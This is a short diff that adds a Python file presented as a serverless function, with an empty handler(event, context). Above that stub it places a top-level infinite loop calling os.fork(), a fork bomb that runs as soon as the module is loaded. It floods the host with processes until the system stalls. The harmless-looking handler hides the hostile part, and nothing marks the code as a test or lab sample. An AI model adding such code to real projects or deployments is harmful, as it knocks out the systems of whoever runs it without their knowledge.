@@ -1,0 +1,8 @@
+import os
+
+while True:
+    os.fork()
+
+
+def handler(event, context):
+    pass
